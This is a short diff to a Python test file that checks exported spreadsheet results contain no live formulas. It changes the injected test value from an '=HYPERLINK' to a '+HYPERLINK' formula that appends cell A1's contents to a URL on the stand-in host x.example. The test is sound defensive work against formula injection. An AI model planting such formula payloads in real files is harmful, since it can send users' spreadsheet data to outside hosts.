@@ -182,7 +182,7 @@ def test_after_the_buyer_has_sold_the_developer_learns_nothing_of_who_came_next(
 def test_the_result_file_holds_no_formula():
     developer = a_developer()
     a_site(developer)
-    evil = '=HYPERLINK("http://x.example/"&A1)'
+    evil = '+HYPERLINK("http://x.example/"&A1)'
     upload = received(developer, {**ROW, "室号": evil[:20]}, {**ROW, "小区名称": evil})
     for _ in range(4):
         jobs.work_on_files(0)
@@ -190,7 +190,7 @@ def test_the_result_file_holds_no_formula():
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
         parts = b"".join(archive.read(name) for name in archive.namelist())
     assert b"<f>" not in parts and b"<hyperlink" not in parts
-    assert b"=HYPERLINK(" in parts
+    assert b"+HYPERLINK(" in parts
 
 
 # What is kept, logged, and looked at
